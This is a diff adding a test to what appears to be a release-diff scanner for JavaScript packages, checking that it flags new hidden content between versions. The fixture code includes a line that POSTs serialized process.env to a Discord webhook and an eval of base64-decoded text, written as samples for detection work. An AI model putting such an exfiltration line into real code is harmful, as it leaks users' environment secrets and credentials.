@@ -44,6 +44,27 @@ describe('capability delta', () => {
   });
 });
 
+describe('hidden content that appears between releases', () => {
+  test('new opaque blob, new exfiltration endpoint, new obfuscation: each a signal with the new site', () => {
+    const a = filesOf({ 'package.json': '{"name":"a","version":"1.0.0"}', 'lib/x.js': 'module.exports = 1;\n' });
+    const b = filesOf({
+      'package.json': '{"name":"a","version":"1.0.1"}',
+      'data/blob.dat': Buffer.from(Array.from({ length: 8192 }, (_, i) => (i * 2654435761) >>> 24)),
+      'lib/x.js': "module.exports = 1;\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: JSON.stringify(process.env) });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
+    });
+    const fd = diffFiles(a, b);
+    const sigs = capabilitySignals(contentFacts(a), contentFacts(b), fd.isNewLine);
+    const by = (r: string) => sigs.filter((s) => s.rule === `release-diff/${r}`);
+    assert.equal(by('new-endpoint')[0]?.evidence[0]?.line, 2);
+    assert.match(by('new-endpoint')[0]?.title ?? '', /discord\.com/);
+    assert.equal(by('new-obfuscation')[0]?.evidence[0]?.line, 3);
+    assert.match(by('new-obfuscation')[0]?.evidence[0]?.label ?? '', /changed line/);
+    const kinds = by('new-capability').map((s) => s.title.split(' ')[1]).sort();
+    for (const k of ['env-serialize', 'eval', 'network']) assert.ok(kinds.includes(k), kinds.join(','));
+    assert.equal(by('new-blob')[0]?.evidence[0]?.file, 'data/blob.dat');
+  });
+});
+
 describe('files, dependencies, scripts', () => {
   test('files outside the usual folders, size jumps and patch rewrites', () => {
     const a = filesOf({ 'package.json': '{}', 'lib/a.js': 'x'.repeat(1000), 'lib/b.js': 'y', 'lib/c.js': 'z', 'lib/d.js': 'w' });
